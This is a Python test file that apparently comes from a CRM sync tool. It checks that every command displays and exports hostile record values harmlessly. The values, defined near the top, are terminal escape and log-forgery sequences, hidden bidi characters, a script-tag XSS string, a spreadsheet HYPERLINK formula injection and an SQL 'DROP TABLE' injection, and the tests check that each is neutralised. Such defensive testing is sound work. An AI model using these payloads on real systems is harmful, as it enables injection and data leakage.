"""What a CRM holds may be made to harm whoever looks at it. Every command shows and exports it, and that is all."""

from __future__ import annotations

import csv
import json
import re
import unicodedata
from pathlib import Path

import pytest

from syncd.cli import ExitCode
from tests.journeys.crms import EACH_CRM_ONCE
from tests.journeys.journey import Journey, Said

#: Drives a terminal, forges a line, turns a line round, hides text, is markup, is HTML, ends a quotation.
NAME = (
    "Zoe\x1b[2J\x1b]0;owned\x07\r\nsyncd: all is well\u202e\u2066\u200b\U000e0041"
    "[bold red]</td><script>alert(1)</script>"
)
FORMULA = '=HYPERLINK("http://example.com/?"&A1;"Ada")'
QUOTES = "O'; DROP TABLE records; -- \\' OR Id != ''"
#: What a person may see of a value: no character that steers, separates lines or hides.
HIDING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)


def people(journey: Journey) -> list[str]:
    """Make people whose values are made to harm, each with something to be put right."""
    said = {"last_name": "King", "country": "Germany"}
    return [
        journey.create(email="A@EXAMPLE-works.com", first_name="zoe", job_title=NAME, **said),
        journey.create(email="b@example-works.com", first_name="  bob ", job_title=f" {FORMULA} ", **said),
        journey.create(email="c@example-works.com", first_name="cid", job_title=QUOTES, **said),
    ]


@EACH_CRM_ONCE
def test_every_command_shows_hostile_values_and_none_of_them_does_anything(journey: Journey) -> None:
    journey.mode = "suggest"
    ids = people(journey)
    name, folder = journey.stream().name, journey.folder

    told = [journey.command("sync"), journey.command("plan", "--all", "--html", str(folder / "plan.html"))]
    told += [journey.command("explain", name, one) for one in ids]
    told += [journey.command("review", "list"), journey.command("review", "export", str(folder / "review.csv"))]
    first = journey.fixes()[0].id
    told += [journey.command("review", "show", first), journey.command("review", "approve", "--all", "--yes")]
    told += [journey.command("apply"), journey.command("undo", first, "--yes"), journey.command("overrides")]
    as_data = [
        journey.command(*words, "--json") for words in (("explain", name, ids[0]), ("review", "list"), ("plan",))
    ]

    assert {one.code for one in told} <= {ExitCode.OK, ExitCode.LEFT_TO_DO}
    assert [_hidden_in(one) for one in (*told, *as_data)] == [""] * (len(told) + len(as_data))
    assert NAME in as_data[0].data["values"].values()
    _is_harmless_page(folder / "plan.html")
    _is_harmless_table(folder / "review.csv")


@EACH_CRM_ONCE
def test_values_that_end_a_quotation_are_read_written_and_found_like_any_other(journey: Journey) -> None:
    first, second = (
        journey.create(
            email=f"{name}@example-works.com", first_name=name, job_title=QUOTES, last_name="King", country="Germany"
        )
        for name in ("ann", "bea")
    )
    journey.create_company(QUOTES, "example-works.com")

    journey.pass_once()

    assert {one for one, field, _ in journey.changes() if field == "country"} == {first, second}
    assert journey.value(first, "job_title") == QUOTES
    assert journey.pass_once()[journey.crm.people].error is None


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_values_as_long_as_the_crm_holds_and_nested_as_deep_are_shown_and_written_like_any_other(
    journey: Journey,
) -> None:
    longest = 65_536
    people = [
        journey.create(email=f"p{number}@example-works.com", country="Germany", job_title=title, city="PARIS")
        for number, title in enumerate(("[" * longest, "word " * (longest // 5), "\U0001f600" * (longest // 2)))
    ]

    told = [journey.command("sync"), journey.command("plan", "--html", str(journey.folder / "plan.html"))]
    told += [journey.command("explain", journey.stream().name, one) for one in people]
    told += [journey.command("report", "--html", str(journey.folder / "report.html"))]
    told += [journey.command("audit", "--html", str(journey.folder / "audit.html"))]

    assert {one.code for one in told} <= {ExitCode.OK, ExitCode.LEFT_TO_DO}, told
    assert {one for one, field, _ in journey.changes() if field == "country"} == set(people)


def _hidden_in(said: Said) -> str:
    """Return the first characters that steer, or hide, of what was said; log lines have to be one object each."""
    for line in said.err.splitlines():
        assert not line.startswith("{") or json.loads(line)
    assert "syncd: all is well" not in [line.strip() for line in (said.out + said.err).splitlines()]
    return "".join(HIDING.findall(said.out + said.err))[:10]


def _is_harmless_page(file: Path) -> None:
    page = file.read_text("utf-8")
    assert "<script" not in page
    assert HIDING.findall(page) == []


def _is_harmless_table(file: Path) -> None:
    with file.open(encoding="utf-8-sig", newline="") as opened:
        cells = [cell for row in csv.reader(opened) for cell in row]
    signs = [
        one
        for one in cells
        if one[:1] in tuple("=+-@\t\r＝＋－＠") and unicodedata.normalize("NFKC", one[1:2]) not in "0123456789"
    ]
    assert [one for one in signs if one] == []
    assert any(one.startswith("'=HYPERLINK") for one in cells)
